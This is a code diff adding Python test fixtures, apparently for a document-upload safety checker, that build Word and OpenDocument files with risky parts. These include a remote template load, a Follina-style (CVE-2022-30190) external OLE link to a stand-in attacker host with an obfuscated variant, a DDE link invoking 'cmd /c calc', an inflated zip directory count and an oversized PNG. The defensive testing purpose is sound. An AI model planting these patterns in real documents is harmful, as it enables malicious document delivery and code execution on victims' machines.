@@ -378,3 +378,113 @@ def long_docx(paragraphs: int = 4000) -> bytes:
             DOCUMENT.replace("<w:p><w:r><w:t>{text}</w:t></w:r></w:p>", body),
         )
     return out.getvalue()
+
+
+# --- office files that fetch from the internet or carry active parts --------------------------
+
+_RELATIONSHIPS = (
+    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+    "{items}</Relationships>"
+)
+_OFFICE_RELATIONSHIP = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
+
+
+def _relationship(kind: str, target: str, *, external: bool = True, rid: str = "rId9") -> str:
+    mode = ' TargetMode="External"' if external else ""
+    return f'<Relationship Id="{rid}" Type="{_OFFICE_RELATIONSHIP}{kind}" Target="{target}"{mode}/>'
+
+
+def docx_with_remote_template() -> bytes:
+    """A Word document whose settings load a template from a web server when it opens."""
+    rels = _RELATIONSHIPS.format(
+        items=_relationship("attachedTemplate", "http://skabeloner.example/t.dotm")
+    )
+    return docx(extra={"word/_rels/settings.xml.rels": rels})
+
+
+def docx_with_external_ole_object(mode: str = 'TargetMode="External"') -> bytes:
+    """A Word document with an OLE object fetched through an `mhtml:` link (the pattern of
+    CVE-2022-30190); `mode` may spell External with a character reference."""
+    rels = _RELATIONSHIPS.format(
+        items=f'<Relationship Id="rId9" Type="{_OFFICE_RELATIONSHIP}oleObject" '
+        f'Target="mhtml:http://angriber.example/side.html!x-usc:http://angriber.example/x" '
+        f"{mode}/>"
+    )
+    return docx(extra={"word/_rels/document.xml.rels": rels})
+
+
+def docx_with_activex() -> bytes:
+    return docx(extra={"word/activeX/activeX1.bin": bytes(64), "word/activeX/activeX1.xml": ""})
+
+
+def docx_with_embedded_ole() -> bytes:
+    return docx(extra={"word/embeddings/oleObject1.bin": ole2_header()})
+
+
+def docx_with_hyperlink_and_image() -> bytes:
+    """An ordinary Word document: a link the reader may click, and a picture inside the file."""
+    rels = _RELATIONSHIPS.format(
+        items=_relationship("hyperlink", "https://www.borger.dk/", rid="rId8")
+        + _relationship("image", "media/image1.png", external=False)
+    )
+    return docx(extra={"word/_rels/document.xml.rels": rels, "word/media/image1.png": png()})
+
+
+def _odt_body(body: str) -> bytes:
+    content = (
+        f'<?xml version="1.0" encoding="UTF-8"?><office:document-content {ODF_NAMESPACES} '
+        'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
+        'xmlns:xlink="http://www.w3.org/1999/xlink">'
+        f"<office:body><office:text>{body}</office:text></office:body>"
+        "</office:document-content>"
+    )
+    return _odf(ODT_MIMETYPE, content)
+
+
+def odt_with_remote_image() -> bytes:
+    """An OpenDocument text whose picture is fetched from a web server when it opens."""
+    return _odt_body(
+        '<text:p><draw:frame><draw:image xlink:href="http://billeder.example/x.png" '
+        'xlink:type="simple"/></draw:frame></text:p>'
+    )
+
+
+def odt_with_dde_link() -> bytes:
+    return _odt_body(
+        '<text:p><office:dde-source office:dde-application="cmd" office:dde-topic="/c calc" '
+        'office:dde-item="x"/></text:p>'
+    )
+
+
+def odt_with_hyperlink() -> bytes:
+    return _odt_body(
+        '<text:p><text:a xlink:type="simple" xlink:href="https://www.borger.dk/">borger.dk'
+        "</text:a></text:p>"
+    )
+
+
+def docx_declaring_entries(entries: int) -> bytes:
+    """A Word document whose end of central directory claims `entries` members (zipfile
+    counts the ones it reads, so only the declared count tells of a giant directory)."""
+    data = bytearray(docx())
+    at = data.rfind(b"PK\x05\x06")
+    struct.pack_into("<HH", data, at + 8, entries, entries)
+    return bytes(data)
+
+
+def large_png(width: int = 7000, height: int = 7000) -> bytes:
+    """A real grey PNG of `width` × `height` pixels, a few dozen KB as it is all one colour."""
+
+    def chunk(kind: bytes, data: bytes) -> bytes:
+        return (
+            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
+        )
+
+    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
+    packer = zlib.compressobj(9)
+    row = b"\x00" + b"\x80" * width
+    pixels = b"".join(packer.compress(row) for _ in range(height)) + packer.flush()
+    return (
+        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")
+    )
